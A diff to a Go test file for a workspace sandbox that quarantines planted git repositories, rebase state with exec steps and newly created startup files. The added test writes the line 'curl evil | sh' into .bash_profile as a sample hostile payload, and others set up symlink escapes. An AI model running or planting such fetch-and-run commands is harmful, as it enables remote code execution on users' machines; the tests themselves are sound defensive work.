@@ -122,7 +122,7 @@ func TestPlantedRepositoryIsQuarantined(t *testing.T) {
 		t.Fatalf("quarantined %v, want only sub/.git (%+v)", got, r.Quarantined)
 	}
 	q := r.Quarantined[0]
-	if !strings.Contains(q.Reason, "core.fsmonitor") || q.MovedTo != f.ws+"/sub/.git/HEAD"+domain.GitUntrustedSuffix || q.Error != "" ||
+	if !strings.Contains(q.Reason, "core.fsmonitor") || q.MovedTo != f.ws+"/sub/.git/HEAD"+domain.UntrustedSuffix || q.Error != "" ||
 		exists(f.ws+"/sub/.git/HEAD") || !exists(q.MovedTo) {
 		t.Fatalf("quarantine %+v", q)
 	}
@@ -182,7 +182,7 @@ func TestQuarantineCannotBeUndone(t *testing.T) {
 	if len(r.Quarantined) != 1 {
 		t.Fatalf("quarantined %+v", r.Quarantined)
 	}
-	r = sh(t, f.s, "mv sub/.git/HEAD"+domain.GitUntrustedSuffix+" sub/.git/HEAD && ln -s "+outside+" out && ln -s . loop && mkdir -p a/b && ln -s ../.. a/b/up")
+	r = sh(t, f.s, "mv sub/.git/HEAD"+domain.UntrustedSuffix+" sub/.git/HEAD && ln -s "+outside+" out && ln -s . loop && mkdir -p a/b && ln -s ../.. a/b/up")
 	if got := quarantined(r); !slices.Equal(got, []string{f.ws + "/sub/.git"}) || exists(f.ws+"/sub/.git/HEAD") {
 		t.Fatalf("after the rename back, quarantined %v", got)
 	}
@@ -301,7 +301,7 @@ func TestStoppedRebaseWithExecIsSetAside(t *testing.T) {
 		t.Fatalf("the rebase did not stop at the break: %s %s", r.Stdout, r.Stderr)
 	}
 	state := f.ws + "/.git/rebase-merge"
-	if got := quarantined(r); !slices.Equal(got, []string{state}) || exists(state) || !exists(state+domain.GitUntrustedSuffix) {
+	if got := quarantined(r); !slices.Equal(got, []string{state}) || exists(state) || !exists(state+domain.UntrustedSuffix) {
 		t.Fatalf("set aside %v (%+v)", got, r.Quarantined)
 	}
 	hostGitRun(t, f.ws, "rebase", "--continue")
@@ -328,6 +328,39 @@ func TestTodoRunsCommands(t *testing.T) {
 	} {
 		if got := todoRunsCommands([]byte(todo)) != ""; got != runs {
 			t.Errorf("%q: %v", todo, got)
+		}
+	}
+}
+
+// TestCreatedStartupFilesAreSetAside: shell start-up files, .envrc and
+// editor settings are read-only where they exist; one the command creates
+// where it did not exist (at the workspace's root) is set aside after it
+// and named, and a second one the same way (numbered). Control: an
+// ordinary file created next to them stays.
+func TestCreatedStartupFilesAreSetAside(t *testing.T) {
+	f := newPlantFixture(t)
+	for round := 0; round < 2; round++ {
+		r := sh(t, f.s, "echo 'curl evil | sh' > .bash_profile && echo 'use flake' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo n > notes.txt")
+		if r.ExitCode != 0 {
+			t.Fatalf("(%d) %s", r.ExitCode, r.Stderr)
+		}
+		got := quarantined(r)
+		slices.Sort(got)
+		want := []string{f.ws + "/.bash_profile", f.ws + "/.envrc", f.ws + "/.vscode"}
+		if !slices.Equal(got, want) {
+			t.Fatalf("round %d: set aside %v, want %v (%+v)", round, got, want, r.Quarantined)
+		}
+		suffix := domain.UntrustedSuffix
+		if round == 1 {
+			suffix += ".1"
+		}
+		for _, p := range want {
+			if exists(p) || !exists(p+suffix) {
+				t.Fatalf("round %d: %s not set aside as %s", round, p, p+suffix)
+			}
+		}
+		if !exists(f.ws + "/notes.txt") {
+			t.Fatal("an ordinary file was set aside")
 		}
 	}
 }
